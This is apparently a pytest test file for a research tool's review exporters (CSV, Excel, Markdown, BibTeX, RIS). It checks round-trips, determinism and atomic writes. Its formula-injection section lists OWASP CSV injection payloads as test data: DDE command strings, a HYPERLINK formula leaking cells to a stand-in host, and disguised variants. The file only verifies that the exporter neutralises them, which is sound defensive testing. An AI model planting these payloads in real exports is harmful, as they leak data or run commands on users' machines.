"""Exports read back with the tools a reviewer would use: pandas/csv, openpyxl,
LibreOffice, bibtexparser and a RIS reader (the HTML report: test_report*.py)."""

from __future__ import annotations

import csv
import dataclasses
import errno
import os
import re
import shutil
import signal
import subprocess
import zipfile
from pathlib import Path

import bibtexparser
import openpyxl
import pandas as pd
import pytest

import litreview._io
import litreview.outputs.export as ex
from litreview.corpus.records import Article, Author
from litreview.errors import LitreviewError

HOSTILE_TITLE = (
    '=HYPERLINK("http://evil.example","x") +1 -2 @SUM(A1) <script>alert(1)</script> '
    "{unbalanced 50% & $x$ #1 a_b ~ ^ \\ end"
)
HOSTILE_PMID = "31452104"
CURATED_DOI = "10.2000/XYZ.5"
#: Stands in for the report page, which test_report.py and test_report_browser.py test.
REPORT = b"<!DOCTYPE html><title>report</title><p>report</p>\n"


# -- fixtures -------------------------------------------------------------------
@pytest.fixture
def cited() -> list[Article]:
    """Hostile PubMed record, DOI-only curated record, two records whose keys collide."""
    return [
        Article(
            pmid=HOSTILE_PMID, title=HOSTILE_TITLE, year=2020, journal="J Psychiatry & Neurosci",
            journal_iso="J Psychiatry Neurosci", volume="12", issue="3", pages="123-30", doi="10.1000/j_x.2020.01",
            authors=(Author(last_name="Šimić", fore_name="Ana"), Author(last_name="Müller", fore_name="Hans"),
                     Author(collective_name="Ketamine Study Group")),
            abstract="BACKGROUND: hostile.\nRESULTS: none.",
        ),
        Article(pmid=None, doi=CURATED_DOI, title="Ketamine raises BDNF in mice", year=2019, journal="Biol Psychiatry",
                authors=(Author(last_name="Maeng", initials="S"),), source="curated",
                curated_summary="Mice given ketamine showed more hippocampal BDNF."),
        Article(pmid="17643398", title="Cellular mechanisms of ketamine", year=2008, journal="Biol Psychiatry",
                authors=(Author(last_name="Maeng", initials="S"),), pages="e12"),
        Article(pmid="17000001", title="Cellular signalling after ketamine", year=2008, journal="Neuron",
                authors=(Author(last_name="Maeng", initials="S"),)),
    ]


@pytest.fixture
def tables() -> dict[str, pd.DataFrame]:
    """Review, studies, screening and provenance frames shaped like the pipeline's."""
    review = pd.DataFrame({
        "claim_id": ["bdnf_up", "nmda_block"],
        "mechanism": ["bdnf", "nmda"],
        "statement": ["ketamine | increases BDNF\nin humans", "@SUM(A1) blocks NMDA"],
        "articles": ["seed1", "seed2"],
        "n_studies": [2, 2],
        "by_design": ["rct 1, cohort 1", "animal 2"],
        "by_direction": ["supports 2", "supports 1, null 1"],
        "best_evidence": ["rct (human)", "experimental (animal)"],
        "certainty": ["moderate", "low"],
        "verdict": ["supported in humans (moderate certainty)", "-contested"],
        "key_pmids": [[HOSTILE_PMID, f"doi:{CURATED_DOI.lower()}"], ["17643398", "17000001"]],
        "certainty_steps": ["start high (rct); -1 imprecision", "start high"],
    })
    studies = pd.DataFrame({
        "key": [HOSTILE_PMID, f"doi:{CURATED_DOI.lower()}", "17643398", "17000001"],
        "pmid": [HOSTILE_PMID, None, "17643398", "17000001"],
        "doi": ["10.1000/j_x.2020.01", CURATED_DOI, None, None],
        "claim_id": ["bdnf_up", "bdnf_up", "nmda_block", "nmda_block"],
        "title": [HOSTILE_TITLE, "Ketamine raises BDNF in mice", "Cellular mechanisms", "Cellular signalling"],
        "year": pd.array([2020, 2019, 2008, 2008], dtype="Int64"),
        "design": ["rct", "experimental", "experimental", "cohort"],
        "population": ["human", "animal", "animal", "human"],
        "sample_size": pd.array([40, None, None, 12], dtype="Int64"),
        "direction": ["supports", "supports", "supports", "no_effect"],
        "score": [-1.5, 2.25, 0.0, 1.0],
        "rationale": ["+1 design\n-2 size", "tab\tinside", "\tleading tab", "\rleading CR"],
        "judged_by": ["rules", "curator", "rules", "rules"],
        "flags": [["erratum"], [], ["no_abstract", "not_english"], []],
        "pts_design": [3.0, 2.0, 2.0, 1.0],
        "pts_precision": [-0.5, 0.0, 0.0, 0.25],
    })
    screening = pd.DataFrame({"mechanism": ["bdnf", "nmda"], "key": [HOSTILE_PMID, "17643398"],
                              "decision": ["included", "included"], "reason": ["=1+1", "ok"]})
    provenance = pd.DataFrame({"key": [HOSTILE_PMID, f"doi:{CURATED_DOI.lower()}"],
                               "pmid": [HOSTILE_PMID, "PMID unresolved"], "doi": [None, CURATED_DOI],
                               "source": ["pubmed", "curated"]})
    return {"review": review, "studies": studies, "screening": screening, "provenance": provenance}


@pytest.fixture
def written(tmp_path, tables, cited) -> dict[str, Path]:
    """Every export of the fixture review."""
    return ex.export_review(tmp_path / "out", **tables, cited=cited, html_report=REPORT)


# -- formats --------------------------------------------------------------------
def test_parse_formats_orders_and_dedupes():
    assert ex.parse_formats(" ris,CSV,csv ") == ("csv", "ris")
    assert ex.parse_formats(",".join(ex.ALL_FORMATS)) == ex.ALL_FORMATS


@pytest.mark.parametrize("text", ["csv,pdf,docx", "", " , "])
def test_parse_formats_rejects_unknown_in_one_line(text):
    with pytest.raises(LitreviewError) as info:
        ex.parse_formats(text)
    message = str(info.value)
    assert "\n" not in message and "csv, xlsx, md, html, bib, ris" in message
    if "pdf" in text:
        assert "'pdf'" in message and "'docx'" in message and "'csv'" not in message


def test_export_review_writes_only_requested_formats(tmp_path, tables, cited):
    written = ex.export_review(tmp_path, **tables, cited=cited, formats=("bib", "csv"))
    assert sorted(written) == ["references.bib", "review.csv", "studies.csv"]
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(written)
    with pytest.raises(ex.ExportError, match="'tex'"):
        ex.export_review(tmp_path, **tables, cited=cited, formats=("csv", "tex"))


def test_all_files_written(written):
    assert sorted(written) == sorted(n for names in ex.FORMAT_FILES.values() for n in names)
    assert all(p.is_file() and p.stat().st_size > 0 for p in written.values())


# -- CSV ------------------------------------------------------------------------
def test_csv_neutralises_text_keeps_numbers(written):
    studies = pd.read_csv(written["studies.csv"])
    assert studies["score"].dtype.kind == "f" and studies["score"].tolist() == [-1.5, 2.25, 0.0, 1.0]
    assert studies["pts_precision"].iloc[0] == -0.5
    assert studies["title"].iloc[0] == "'" + HOSTILE_TITLE
    assert studies["rationale"].tolist() == ["'+1 design\n-2 size", "tab\tinside", "'\tleading tab", "'\rleading CR"]
    assert studies["flags"].iloc[2] == "no_abstract; not_english"
    assert studies["pmid"].tolist() == [HOSTILE_PMID, "PMID unresolved", "17643398", "17000001"]
    assert pd.isna(studies["sample_size"].iloc[1])
    review = pd.read_csv(written["review.csv"])
    assert review["statement"].tolist() == ["ketamine | increases BDNF\nin humans", "'@SUM(A1) blocks NMDA"]
    assert review["verdict"].iloc[1] == "'-contested"
    assert review["key_pmids"].iloc[0] == f"{HOSTILE_PMID}; doi:{CURATED_DOI.lower()}"


def test_csv_cells_never_start_with_formula_character(written):
    for name in ("review.csv", "studies.csv"):
        with open(written[name], encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for value in row:
                    if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        float(value)  # only numbers may (negative scores)


# -- Excel ----------------------------------------------------------------------
def test_xlsx_sheets_header_links_and_values(written):
    wb = openpyxl.load_workbook(written["review.xlsx"])
    assert wb.sheetnames == ["review", "studies", "screening", "provenance"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(ws.max_column)}{ws.max_row}"
        assert ws["A1"].font.bold
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
        assert all(8 <= ws.column_dimensions[openpyxl.utils.get_column_letter(i)].width <= 62
                   for i in range(1, ws.max_column + 1))
    ws = wb["studies"]
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, r)) for r in ws.iter_rows(min_row=2)]
    assert rows[0]["title"].value == "'" + HOSTILE_TITLE
    assert rows[0]["title"].alignment.wrap_text
    assert rows[0]["score"].value == -1.5 and rows[0]["score"].data_type == "n"
    assert rows[0]["pmid"].hyperlink.target == f"https://pubmed.ncbi.nlm.nih.gov/{HOSTILE_PMID}/"
    assert rows[1]["doi"].hyperlink.target == f"https://doi.org/{CURATED_DOI}"
    assert rows[1]["key"].hyperlink.target == f"https://doi.org/{CURATED_DOI.lower()}"
    assert rows[1]["pmid"].value == "PMID unresolved" and rows[1]["pmid"].hyperlink is None
    assert rows[2]["flags"].value == "no_abstract; not_english"
    provenance = wb["provenance"]
    assert provenance["B3"].value == "PMID unresolved" and provenance["B3"].hyperlink is None
    assert wb.properties.modified.year == 2000 and wb.properties.created.year == 2000


def test_xlsx_zip_entries_carry_fixed_dates(written):
    with zipfile.ZipFile(written["review.xlsx"]) as archive:
        assert archive.testzip() is None
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"2000-01-01T00:00:00Z" in archive.read("docProps/core.xml")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_xlsx_opens_in_libreoffice(written, tmp_path):
    """LibreOffice re-saves the whole workbook; every sheet and value survives."""
    out = tmp_path / "lo"
    result = subprocess.run(
        ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
         "--convert-to", "xlsx", "--outdir", str(out), str(written["review.xlsx"])],
        capture_output=True, text=True, timeout=120, check=False,
    )
    assert result.returncode == 0, result.stderr
    wb = openpyxl.load_workbook(out / "review.xlsx")
    assert wb.sheetnames == ["review", "studies", "screening", "provenance"]
    assert [c.value for c in wb["review"]["C"]][1:] == ["ketamine | increases BDNF\nin humans", "'@SUM(A1) blocks NMDA"]
    studies = wb["studies"]
    assert (studies["E2"].value, studies["K2"].value) == ("'" + HOSTILE_TITLE, -1.5)


# -- exports that load as they look ---------------------------------------------
def test_identifiers_load_as_text_with_default_readers(tmp_path):
    """pandas' defaults give PMIDs as text, in CSV and Excel, even from numeric or gappy columns."""
    frame = pd.DataFrame({
        "key": ["17643398", "doi:10.1/x", "31452104"],
        "pmid": [17643398.0, float("nan"), 31452104.0],  # what a merge with a DOI-only row makes of PMIDs
        "claim_id": ["a", "b", "c"],
        "n": [1, 2, 3],
    })
    ex.export_csv(tmp_path / "t.csv", frame)
    ex.export_xlsx(tmp_path / "t.xlsx", {"t": frame})
    for back in (pd.read_csv(tmp_path / "t.csv"), pd.read_excel(tmp_path / "t.xlsx")):
        assert back["pmid"].tolist() == ["17643398", "PMID unresolved", "31452104"]
        assert back["key"].tolist() == ["17643398", "doi:10.1/x", "31452104"]
        assert back["n"].dtype.kind == "i"
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
    assert [(c.value, c.data_type) for c in ws["B"][1:]] == [("17643398", "s"), ("PMID unresolved", "s"),
                                                             ("31452104", "s")]


def test_every_direction_label_survives_pandas_na_parsing(tmp_path):
    """No label the exports write (directions, effects) is one of pandas' default NA strings ("null", "NA", ...)."""
    from litreview.corpus.claims import EFFECTS
    from litreview.evidence.scoring import DIRECTIONS

    labels = [*DIRECTIONS, *EFFECTS]
    assert "no_effect" in DIRECTIONS and "null" not in DIRECTIONS
    ex.export_csv(tmp_path / "labels.csv", pd.DataFrame({"direction": labels}))
    assert pd.read_csv(tmp_path / "labels.csv")["direction"].tolist() == labels


def test_studies_csv_keeps_no_effect(written):
    studies = pd.read_csv(written["studies.csv"])
    assert studies["direction"].tolist() == ["supports", "supports", "supports", "no_effect"]


def test_csv_has_a_bom_and_every_reader_still_reads_it(written, tmp_path):
    """UTF-8 with BOM for Excel on Windows; pandas, csv (utf-8-sig), openpyxl and bibtexparser unaffected."""
    frame = pd.DataFrame({"mediator": ["β-arrestin", "α-amino-3-hydroxy"], "pmid": ["1", "2"]})
    data = ex.export_csv(tmp_path / "greek.csv", frame).read_bytes()
    assert data.startswith(b"\xef\xbb\xbfmediator,pmid\n") and "β-arrestin".encode() in data
    back = pd.read_csv(tmp_path / "greek.csv")
    assert list(back.columns) == ["mediator", "pmid"]
    assert back["mediator"].tolist() == ["β-arrestin", "α-amino-3-hydroxy"]
    with open(tmp_path / "greek.csv", encoding="utf-8-sig", newline="") as handle:
        assert next(csv.reader(handle)) == ["mediator", "pmid"]
    for name in ("review.csv", "studies.csv"):
        assert written[name].read_bytes().startswith(b"\xef\xbb\xbf")
        assert pd.read_csv(written[name]).columns[0] in ("claim_id", "key")
    for name in ("references.bib", "references.ris", "review.md", "review.html"):
        assert not written[name].read_bytes().startswith(b"\xef\xbb\xbf"), name
    assert bibtexparser.parse_string(written["references.bib"].read_text(encoding="utf-8")).failed_blocks == []
    ex.export_xlsx(tmp_path / "greek.xlsx", {"g": frame})
    assert openpyxl.load_workbook(tmp_path / "greek.xlsx")["g"]["A2"].value == "β-arrestin"


def test_review_sheet_links_every_key_pmid(written):
    ws = openpyxl.load_workbook(written["review.xlsx"])["review"]
    header = [c.value for c in ws[1]]
    assert header[header.index("key_pmids"):header.index("key_pmids") + 2] == ["key_pmids", "key_pmids_2"]
    row = dict(zip(header, ws[2]))
    assert row["key_pmids"].value == HOSTILE_PMID
    assert row["key_pmids"].hyperlink.target == f"https://pubmed.ncbi.nlm.nih.gov/{HOSTILE_PMID}/"
    assert row["key_pmids_2"].value == f"doi:{CURATED_DOI.lower()}"
    assert row["key_pmids_2"].hyperlink.target == f"https://doi.org/{CURATED_DOI.lower()}"
    assert header[-1] == "certainty_steps" and row["certainty_steps"].hyperlink is None
    assert pd.read_csv(written["review.csv"])["key_pmids"].iloc[0] == f"{HOSTILE_PMID}; doi:{CURATED_DOI.lower()}"


def test_unknown_first_author_is_not_given_a_name(tmp_path, tables):
    nameless = [Article(pmid="17959792", title="NMDA receptor hypofunction", year=2007, journal="J Neurosci"),
                Article(pmid="21292242", title="Two authors, first unnamed", year=2011,
                        authors=(Author(), Author(last_name="Li", initials="N")))]
    written = ex.export_review(tmp_path, **tables, cited=nameless, formats="md,bib,ris")
    text = written["review.md"].read_text(encoding="utf-8")
    assert "Anonymous" not in text
    assert r"\[author not recorded\] (2007). NMDA receptor hypofunction." in text
    assert r"\[author not recorded\], Li N (2011)" in text
    library = bibtexparser.parse_string(written["references.bib"].read_text(encoding="utf-8"))
    assert "author" not in library.entries[0].fields_dict
    assert "AU  -" not in written["references.ris"].read_text(encoding="utf-8").split("ER  -")[0]


def test_further_tables_slot_in_as_sheets_and_csv(tmp_path, tables, cited):
    sof = pd.DataFrame({"claim_id": ["bdnf_up"], "outcome": ["BDNF"], "participants": [120],
                        "certainty": ["⊕⊕◯◯ low"], "key_pmids": [[HOSTILE_PMID]]})
    written = ex.export_review(tmp_path, **tables, cited=cited, formats="csv,xlsx",
                               tables={"summary_of_findings": sof})
    assert sorted(written) == ["review.csv", "review.xlsx", "studies.csv", "summary_of_findings.csv"]
    wb = openpyxl.load_workbook(written["review.xlsx"])
    assert wb.sheetnames == ["review", "studies", "screening", "provenance", "summary_of_findings"]
    assert wb["summary_of_findings"]["E2"].hyperlink.target == f"https://pubmed.ncbi.nlm.nih.gov/{HOSTILE_PMID}/"
    assert pd.read_csv(written["summary_of_findings.csv"])["certainty"].tolist() == ["⊕⊕◯◯ low"]
    for bad in ("Summary of findings", "studies", "../x"):
        with pytest.raises(ex.ExportError, match="table name"):
            ex.export_review(tmp_path / "bad", **tables, cited=cited, tables={bad: sof})
    assert not (tmp_path / "bad").exists()


# -- formula injection (OWASP CSV Injection, issue 16 item 1) ---------------------
# OWASP's triggers (= + - @ tab CR LF) and example payloads, and the same payloads as a
# spreadsheet program may see them: after a leading space or NBSP, in full-width or small
# forms, behind control or invisible characters that XML-based formats drop.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]
DISGUISED_PAYLOADS = [
    ' =HYPERLINK("http://evil.example","ketamine")',
    '\u00a0=HYPERLINK("http://evil.example","ketamine")',
    '\uff1dHYPERLINK("http://evil.example","ketamine")',  # full-width equals
    "\ufe66SUM(1+1)",  # small equals
    "\uff0bcmd|' /C calc'!A0",  # full-width plus
    "\uff0d2+3",  # full-width hyphen-minus
    "\uff20SUM(1+9)",  # full-width commercial at
    '\x01=HYPERLINK("http://evil.example","ketamine")',
    "\x00=1+2",
    "\x1f\x0b=1+2",
    "\u200b=1+2",
    "\ufeff=1+2",
    "\x01 \uff1d1+2",
]
HARMLESS = ["ketamine", "β-arrestin", "1+1=2", "\u2013 en dash", "'quoted"]
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


@pytest.fixture
def injected(tmp_path):
    """Every payload as a title, written as CSV and as Excel."""
    values = OWASP_PAYLOADS + DISGUISED_PAYLOADS + HARMLESS
    frame = pd.DataFrame({"title": values, "pmid": [str(n) for n in range(1, len(values) + 1)]})
    return values, ex.export_csv(tmp_path / "t.csv", frame), ex.export_xlsx(tmp_path / "t.xlsx", {"t": frame})


def _expected(value: str) -> str:
    """The value as written: XML-illegal characters dropped, then ``'`` before anything formula-like."""
    cleaned = _XML_ILLEGAL.sub("", value)
    return cleaned if value in HARMLESS else "'" + cleaned


def test_csv_neutralises_owasp_and_disguised_payloads(injected):
    values, csv_path, _ = injected
    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [r[0] for r in rows] == [_expected(v) for v in values]
    assert pd.read_csv(csv_path, keep_default_na=False)["title"].tolist() == [_expected(v) for v in values]


def test_xlsx_neutralises_owasp_and_disguised_payloads(injected):
    values, _, xlsx_path = injected
    with zipfile.ZipFile(xlsx_path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    ws = openpyxl.load_workbook(xlsx_path)["t"]
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == [_expected(v) for v in values]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_runs_no_payload_as_a_formula(injected, tmp_path):
    """LibreOffice opens both files; every cell keeps its text (a formula would have been evaluated)."""
    values, csv_path, xlsx_path = injected
    for source in (csv_path, xlsx_path):
        out = tmp_path / f"lo-{source.suffix[1:]}"
        subprocess.run(["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
                        "--convert-to", "xlsx", "--outdir", str(out), str(source)],
                       capture_output=True, text=True, timeout=120, check=True)
        ws = openpyxl.load_workbook(out / f"{source.stem}.xlsx").active
        assert all(c.data_type == "s" for row in ws.iter_rows(min_row=2, max_col=1) for c in row)


# -- HTML -----------------------------------------------------------------------
def test_html_is_the_report_page_given(tmp_path, tables, cited):
    written = ex.export_review(tmp_path, **tables, cited=cited, formats="html", html_report=REPORT)
    assert written["review.html"].read_bytes() == REPORT
    with pytest.raises(ex.ExportError, match="review.html is the report page"):
        ex.export_review(tmp_path / "none", **tables, cited=cited, formats="csv,html")
    assert not (tmp_path / "none").exists()


# -- Markdown -------------------------------------------------------------------
def test_markdown_table_rows_stay_whole(written):
    lines = written["review.md"].read_text(encoding="utf-8").splitlines()
    table = [line for line in lines if line.startswith("|")]
    assert len(table) == 2 + 2  # header, rule, one row per claim
    cells = [re.split(r"(?<!\\)\|", line)[1:-1] for line in table]
    assert {len(c) for c in cells} == {12}
    assert "ketamine \\| increases BDNF<br>in humans" in table[2]
    assert f"[{HOSTILE_PMID}](https://pubmed.ncbi.nlm.nih.gov/{HOSTILE_PMID}/)" in table[2]
    assert "\\<script\\>" in "\n".join(lines) and "<script>" not in "\n".join(lines)


# -- BibTeX ---------------------------------------------------------------------
# The inverse of the LaTeX escapes, written out independently of the exporter.
_UNLATEX = [(r"\textbackslash{}", "\\"), (r"\textbraceleft{}", "{"), (r"\textbraceright{}", "}"),
            (r"\textasciitilde{}", "~"), (r"\textasciicircum{}", "^"), (r"\&", "&"), (r"\%", "%"),
            (r"\$", "$"), (r"\#", "#"), (r"\_", "_")]


def _unlatex(text: str) -> str:
    """Undo the exporter's LaTeX escapes, left to right."""
    pattern = "|".join(re.escape(k) for k, _ in _UNLATEX)
    return re.sub(pattern, lambda m: dict(_UNLATEX)[m.group()], text)


def test_bibtex_parses_back_and_round_trips(written, cited):
    text = written["references.bib"].read_text(encoding="utf-8")
    assert text.count("{") == text.count("}")
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    entries = {e.key: {k: f.value for k, f in e.fields_dict.items()} for e in library.entries}
    assert sorted(entries) == ["Maeng2008Cellulara", "Maeng2008Cellularb", "Maeng2019Ketamine", "Simic2020Hyperlink"]
    assert {e.entry_type for e in library.entries} == {"article"}
    hostile = entries["Simic2020Hyperlink"]
    assert _unlatex(hostile["title"]) == HOSTILE_TITLE
    assert hostile["author"] == "Šimić, Ana and Müller, Hans and {Ketamine Study Group}"
    assert _unlatex(hostile["journal"]) == "J Psychiatry & Neurosci"
    assert (hostile["year"], hostile["volume"], hostile["number"], hostile["pages"]) == ("2020", "12", "3", "123--130")
    assert hostile["pmid"] == HOSTILE_PMID and hostile["doi"] == "10.1000/j_x.2020.01"
    assert "note" not in hostile
    curated = entries["Maeng2019Ketamine"]
    assert curated["note"] == "curated record; PMID unresolved" and "pmid" not in curated
    assert curated["doi"] == CURATED_DOI and curated["author"] == "Maeng, S"
    assert entries["Maeng2008Cellulara"]["pmid"] == "17000001"  # suffixes follow record-key order
    assert entries["Maeng2008Cellularb"]["pages"] == "e12"


def test_bibtex_key_rules():
    person = (Author(last_name="Šimić", fore_name="Ana"),)
    assert ex.bibtex_key(Article(pmid="1", title="The role of BDNF", year=2020, authors=person)) == "Simic2020Role"
    group = (Author(collective_name="Ketamine Study Group"),)
    assert ex.bibtex_key(Article(pmid="1", title="Ketamine trial", year=2001, authors=group)) == "Ketamine2001Ketamine"
    assert ex.bibtex_key(Article(pmid="1", title="")) == "Anonnd"


def test_bibtex_deduplicates_records_and_keys(tmp_path):
    lee = (Author(last_name="Lee"),)
    same = [Article(pmid=str(n), title="Same title", year=2020, authors=lee) for n in (3, 1, 2, 1)]
    library = bibtexparser.parse_string(ex.export_bibtex(tmp_path / "r.bib", same).read_text(encoding="utf-8"))
    assert [(e.key, e["pmid"]) for e in library.entries] == [
        ("Lee2020Samec", "3"), ("Lee2020Samea", "1"), ("Lee2020Sameb", "2")]


# -- RIS ------------------------------------------------------------------------
def _read_ris(data: bytes) -> list[dict[str, list[str]]]:
    """Minimal RIS reader: ``TAG  - value`` lines, records closed by ``ER``."""
    records, current = [], None
    for line in data.decode("utf-8").splitlines():
        if not line.strip():
            continue
        match = re.fullmatch(r"([A-Z][A-Z0-9])  - ?(.*)", line)
        assert match, f"not a RIS line: {line!r}"
        tag, value = match.groups()
        if tag == "TY":
            assert current is None, "TY inside a record"
            current = {"TY": [value]}
        elif tag == "ER":
            records.append(current)
            current = None
        else:
            current.setdefault(tag, []).append(value)
    assert current is None, "record without ER"
    return records


def test_ris_reads_back_with_the_bibtex_set(written):
    data = written["references.ris"].read_bytes()
    assert data.count(b"\n") == data.count(b"\r\n")
    records = _read_ris(data)
    assert [r["TY"] for r in records] == [["JOUR"]] * 4
    hostile = records[0]
    assert hostile["AU"] == ["Šimić, Ana", "Müller, Hans", "Ketamine Study Group"]
    assert hostile["TI"] == [HOSTILE_TITLE]
    assert (hostile["T2"], hostile["JO"]) == (["J Psychiatry & Neurosci"], ["J Psychiatry Neurosci"])
    assert [hostile[t][0] for t in ("PY", "VL", "IS", "SP", "EP", "DO", "AN")] == [
        "2020", "12", "3", "123", "130", "10.1000/j_x.2020.01", HOSTILE_PMID]
    assert hostile["UR"] == [f"https://pubmed.ncbi.nlm.nih.gov/{HOSTILE_PMID}/"]
    assert hostile["AB"] == ["BACKGROUND: hostile. RESULTS: none."]
    curated = records[1]
    assert "AN" not in curated and "AB" not in curated and curated["UR"] == [f"https://doi.org/{CURATED_DOI}"]
    assert curated["N1"] == ["curated summary (not the abstract): Mice given ketamine showed more hippocampal BDNF.",
                             "curated record; PMID unresolved"]
    bib = bibtexparser.parse_string(written["references.bib"].read_text(encoding="utf-8"))
    assert {r["DO"][0] if "DO" in r else r["AN"][0] for r in records} == {
        e["doi"] if "doi" in e else e["pmid"] for e in bib.entries}


# -- determinism and atomicity --------------------------------------------------
def test_same_input_same_bytes(tmp_path, tables, cited):
    first = ex.export_review(tmp_path / "a", **tables, cited=cited, html_report=REPORT)
    second = ex.export_review(tmp_path / "b", **tables, cited=cited, html_report=REPORT)
    assert {n: p.read_bytes() for n, p in first.items()} == {n: p.read_bytes() for n, p in second.items()}


def test_failed_render_writes_nothing(tmp_path, tables, cited, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    (out / "review.csv").write_text("old\n", encoding="utf-8")

    def broken(articles):
        raise RuntimeError("disk full")

    monkeypatch.setattr(ex, "_render_bibtex", broken)
    with pytest.raises(RuntimeError, match="disk full"):
        ex.export_review(out, **tables, cited=cited, html_report=REPORT)
    assert [p.name for p in out.iterdir()] == ["review.csv"]
    assert (out / "review.csv").read_text(encoding="utf-8") == "old\n"


def test_failure_mid_write_leaves_no_partial_file(tmp_path, tables, cited, monkeypatch):
    def failing_fsync(fd):
        raise OSError("I/O error")

    monkeypatch.setattr(litreview._io.os, "fsync", failing_fsync)
    with pytest.raises(OSError, match="I/O error"):
        ex.export_xlsx(tmp_path / "review.xlsx", {"review": tables["review"]})
    with pytest.raises(OSError, match="I/O error"):
        ex.export_ris(tmp_path / "references.ris", cited)
    assert list(tmp_path.iterdir()) == []


# -- the export set is one unit (issue 16 items 6 and 10) ---------------------------
def _files(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (temporary files included) by relative path."""
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.fixture
def two_sets(tmp_path, tables, cited):
    """An output folder holding the old set, the arguments of a new set whose every file differs, and the new set."""
    out = tmp_path / "out"
    ex.export_review(out, **tables, cited=cited, html_report=REPORT, files={"figures/map.png": b"old figure"})
    old = _files(out)
    new_tables = {name: frame.copy() for name, frame in tables.items()}
    new_tables["review"]["statement"] = new_tables["review"]["statement"] + " (revised)"
    new_tables["studies"]["title"] = new_tables["studies"]["title"] + " (revised)"
    new_cited = [dataclasses.replace(a, title=a.title + " (revised)") for a in cited]
    arguments = {**new_tables, "cited": new_cited, "files": {"figures/map.png": b"new figure"},
                 "html_report": REPORT + b"<p>revised</p>"}
    new = _files(ex.export_review(tmp_path / "reference", **arguments)["review.csv"].parent)
    assert sorted(old) == sorted(new) and all(old[name] != new[name] for name in old)
    return out, old, arguments, new


def _on_call(monkeypatch, name: str, number: int, action) -> None:
    """Run ``action`` just before the ``number``-th call of ``os.<name>`` (1-based), then call it."""
    real, calls = getattr(os, name), []

    def wrapper(*args):
        calls.append(args)
        if len(calls) == number:
            action()
        return real(*args)

    monkeypatch.setattr(litreview._io.os, name, wrapper)


def _disk_full() -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def _interrupt() -> None:
    # raise_signal, not os.kill: a signal sent to the process may be taken by another thread, so the
    # main thread could run on past the call the test targets before it noticed; raise() is synchronous
    signal.raise_signal(signal.SIGINT)


@pytest.mark.parametrize("number", range(1, 9))
def test_full_disk_at_any_file_leaves_the_old_set(two_sets, monkeypatch, number):
    out, old, arguments, _ = two_sets
    _on_call(monkeypatch, "fsync", number, _disk_full)
    with pytest.raises(ex.ExportError) as info:
        ex.export_review(out, **arguments)
    assert "No space left on device" in str(info.value) and "\n" not in str(info.value)
    assert str(out) in str(info.value)
    assert _files(out) == old  # nothing replaced, no temporary file left


@pytest.mark.parametrize("number", [1, 4, 8])
def test_interrupt_while_writing_leaves_the_old_set(two_sets, monkeypatch, number):
    out, old, arguments, _ = two_sets
    _on_call(monkeypatch, "fsync", number, _interrupt)
    with pytest.raises(KeyboardInterrupt):
        ex.export_review(out, **arguments)
    assert _files(out) == old


@pytest.mark.parametrize("number", [1, 2, 5, 8])
def test_interrupt_between_renames_waits_for_the_whole_new_set(two_sets, monkeypatch, number):
    out, _, arguments, new = two_sets
    _on_call(monkeypatch, "replace", number, _interrupt)
    with pytest.raises(KeyboardInterrupt):
        ex.export_review(out, **arguments)
    assert _files(out) == new
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler


def test_sigterm_between_renames_is_delivered_after_the_last(two_sets, monkeypatch):
    out, _, arguments, new = two_sets

    class Terminated(Exception):
        pass

    def on_term(signum, frame):
        raise Terminated

    previous = signal.signal(signal.SIGTERM, on_term)
    try:
        _on_call(monkeypatch, "replace", 3, lambda: signal.raise_signal(signal.SIGTERM))
        with pytest.raises(Terminated):
            ex.export_review(out, **arguments)
        assert signal.getsignal(signal.SIGTERM) is on_term
    finally:
        signal.signal(signal.SIGTERM, previous)
    assert _files(out) == new


def test_output_path_that_is_a_file_is_a_one_line_error(tmp_path, tables, cited):
    readme = tmp_path / "README.md"
    readme.write_text("# keep me\n", encoding="utf-8")
    for out in (readme, readme / "sub"):
        with pytest.raises(ex.ExportError, match="README.md") as info:
            ex.export_review(out, **tables, cited=cited, html_report=REPORT)
        assert "\n" not in str(info.value)
    assert readme.read_text(encoding="utf-8") == "# keep me\n" and sorted(tmp_path.iterdir()) == [readme]
